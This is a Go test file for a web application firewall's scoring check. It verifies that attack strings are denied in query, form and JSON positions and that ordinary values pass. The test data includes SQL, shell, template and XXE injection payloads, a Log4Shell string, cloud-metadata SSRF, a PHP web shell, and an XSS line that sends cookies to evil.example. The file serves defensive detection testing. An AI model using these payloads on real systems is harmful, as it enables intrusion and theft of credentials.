package score

import (
	"encoding/json"
	"fmt"
	"mime"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/sallyport/sallyport/daemon/check"
	"github.com/sallyport/sallyport/daemon/request"
)

// placed is a value as a query parameter, a form field and a JSON leaf.
func placed(text string) map[string]*request.Request {
	body := func(contentType, b string) *request.Request {
		return &request.Request{Method: "POST", URI: []byte("/items"), Protocol: "HTTP/1.1",
			Headers: []request.Header{{Name: []byte("Content-Type"), Value: []byte(contentType)}},
			Body:    request.Body{Present: true, Bytes: []byte(b), Length: int64(len(b))}}
	}
	quoted, _ := json.Marshal(text)
	return map[string]*request.Request{
		"query": {Method: "GET", URI: []byte("/items?q=" + url.QueryEscape(text)), Protocol: "HTTP/1.1"},
		"form":  body("application/x-www-form-urlencoded", "n=1&q="+url.QueryEscape(text)),
		"JSON":  body("application/json", `{"n":1,"q":`+string(quoted)+`}`),
	}
}

// worst is the highest score of any finding about a request.
func worst(c *Check, r *request.Request) (score float64) {
	v := &check.Visit{Request: r, Phase: check.Head | check.Body, Stateless: true}
	c.Judge(v)
	for _, f := range v.Findings {
		score = max(score, f.Score)
	}
	return
}

func TestShortAttacksAreDeniedWhereverTheyStand(t *testing.T) {
	c := testCheck(t)
	for _, text := range []string{
		"' or 1=1--", "' or '1'='1", "1' order by 9-- -", "1 union select null,null", "';waitfor delay '0:0:5'--", "admin'--", "1 and sleep(5)",
		";id", "$(id)", "`id`", "|id", "; sleep 5", "| ping -c 3 example.net", "&& whoami", "\n id", "%0a id", ";cat /etc/passwd",
		"<svg/onload=alert(1)>", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "' onfocus=alert(1) autofocus '",
		"../../etc/passwd", "..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
		"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://example.net/a}",
		"*)(uid=*))(|(uid=*", "' or count(/*)=1 or 'a'='b", `{"$ne":null}`, `{"$where":"sleep(1000)"}`,
		"file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO", "http://169.254.169.254/latest/meta-data/", "<!--#exec cmd=\"id\"-->",
		`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, "__proto__[isAdmin]=true", "<?php system($_GET['c']);?>",
		"() { :;}; /bin/id", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "java.lang.Runtime",
	} {
		for where, r := range placed(text) {
			if got := worst(c, r); got < 80 {
				t.Errorf("%q in %s scores %.1f, below the default deny threshold", text, where, got)
			}
		}
	}
}

func TestOrdinaryValuesAreNotDeniedWhereverTheyStand(t *testing.T) {
	c := testCheck(t)
	texts := []string{
		"Europe/Paris", "America/Argentina/Buenos_Aires", "read/write", "and/or", "root/admin", "text/x-perl", "application/vnd.api+json; charset=utf-8",
		"O'Brien", "rock 'n' roll", "AT&T", "C# or F#", "50% off", "I <3 you", "1 or 2", "select a seat from the map", "drop off & pick up", "what's up?",
		`{"price":{"$gt":5,"$lt":10}}`, `{"alpha":"28"}`, `{"id":"1","c":1718}`, `[{"op":"replace","path":"/a/b","value":1}]`, `name eq 'O''Brien' and price gt 5`,
		"Hi {{first_name}}, welcome!", "{0} of {1}", "%s is %d", "(1+2)*3/4", "x^2 + y^2 = z^2", "*/5 * * * *", "https://example.com/a?b=c&d=e#f",
		"C:\\Users\\Anna\\Documents\\report.docx", "/home/anna/src/main.go", "src/../index.ts", "mailto:a@example.com?subject=Hello%20there",
		"GA1.2.1044213.1700000000", "rgba(0,0,0,.5)", "div.nav > ul li:nth-child(2n+1) a[href^='/x']", "//div[@class='a']/span[2]", "^[a-z0-9._%+-]+@[a-z]+$",
		`"Chromium";v="128", "Not;A=Brand";v="24"`, "TypeError: Cannot read properties of undefined (reading 'map')\n    at render (https://cdn.example.com/main.js:1:2345)",
		"java.lang.NullPointerException", "com.example.app.MainActivity", "SELECT is a keyword of SQL.", "query { user(id: 1) { name } }",
		"\xcf\xf0\xe8\xe2\xe5\xf2, \xec\xe8\xf0", "\x83\x65\x83\x58\x83\x67 \x8c\x9f\x8d\xf5", "\xb0\xcb\xbb\xf6 \xc7\xd1\xb1\xb9", "na\xefve caf\xe9",
	}
	for _, typ := range []string{".html", ".js", ".css", ".json", ".xml", ".png", ".svg", ".pdf", ".wasm", ".mp4", ".sh", ".php"} {
		if m := mime.TypeByExtension(typ); m != "" {
			texts = append(texts, m)
		}
	}
	for i := range 40 { // as trackers send them: JSON, escaped once and twice
		o := fmt.Sprintf(`{"e":"view","n":%d,"u":"https://www.example.com/p/%d?x=%d","d":"{\"t\":%d,\"ok\":true}"}`, i, i*7, i*3, i*1000)
		texts = append(texts, o, url.QueryEscape(o), url.PathEscape(fmt.Sprintf(`{"k%d": "%d"}`, i, i*i)))
	}
	for _, text := range texts {
		for where, r := range placed(text) {
			if got := worst(c, r); got >= 80 {
				t.Errorf("%q in %s scores %.1f, the default deny threshold or more", text, where, got)
			}
		}
	}
}

func TestALongTextNeedsMoreEvidenceAndSaysSo(t *testing.T) {
	c := testCheck(t)
	prose := strings.Repeat("The customer wrote that the parcel arrived late and asked for another driver next time. ", 12)
	attack := "' union select username,password from users-- -"
	if got := worst(c, placed(prose)["JSON"]); got >= 60 {
		t.Errorf("plain prose scores %.1f", got)
	}
	m, err := Embedded()
	if err != nil {
		t.Fatal(err)
	}
	s := &c.scratch.Get().(*scratch).model
	short, long := m.Score(s, []byte(attack)), m.Score(s, []byte(prose+attack))
	if short.Lowered != 0 || long.Lowered <= 0 || long.Lowered > 3 {
		t.Errorf("lowered by %.1f in a short value and by %.1f in a long text; nothing and at most 3 wanted", short.Lowered, long.Lowered)
	}
	if got := worst(c, placed(prose + attack)["JSON"]); got < 80 {
		t.Errorf("an attack at the end of a long text scores %.1f", got)
	}
	v := &check.Visit{Request: placed(prose + attack)["JSON"], Phase: check.Body, Stateless: true}
	c.Judge(v)
	if len(v.Findings) == 0 || !strings.Contains(v.Findings[0].Detail, "a long text of ordinary words") {
		t.Errorf("the finding does not say that the text is long: %+v", v.Findings)
	}
}

func TestAPasswordMayBeAnyText(t *testing.T) {
	c := testCheck(t)
	for password, denied := range map[string]bool{`xK9$'a;(b)|c&&d"<e>`: false, "' or '1'='1' --": true, "x'; drop table users; --": true} {
		quoted, _ := json.Marshal(password)
		r := placed("")["JSON"]
		r.Body.Bytes = []byte(`{"user":{"name":"anna","newPassword":` + string(quoted) + `}}`)
		if got := worst(c, r); got >= 80 != denied {
			t.Errorf("%q as a password scores %.1f; denied wanted: %v", password, got, denied)
		}
	}
}

func TestPaddingHidesNoAttackAndALongValueIsNamed(t *testing.T) {
	c := testCheck(t)
	pad := strings.Repeat("lorem ipsum dolor sit amet, ", 20_000)
	attack := "<script>fetch('//evil.example/?'+document.cookie)</script>"
	for name, text := range map[string]string{"before": pad + attack, "behind": attack + pad} {
		v := judged(c, "/", "", "text/plain", text)
		if !slices.ContainsFunc(v.Findings, func(f check.Finding) bool { return f.ID == "xss" && f.Score >= 80 }) {
			t.Errorf("padding %s an attack hides it: %+v", name, v.Findings)
		}
		if !slices.ContainsFunc(v.Findings, func(f check.Finding) bool {
			return f.ID == "partial" && f.Severity == check.Info && f.Where != ""
		}) {
			t.Errorf("padding %s: no finding says that the middle was not scored: %+v", name, v.Findings)
		}
	}
}
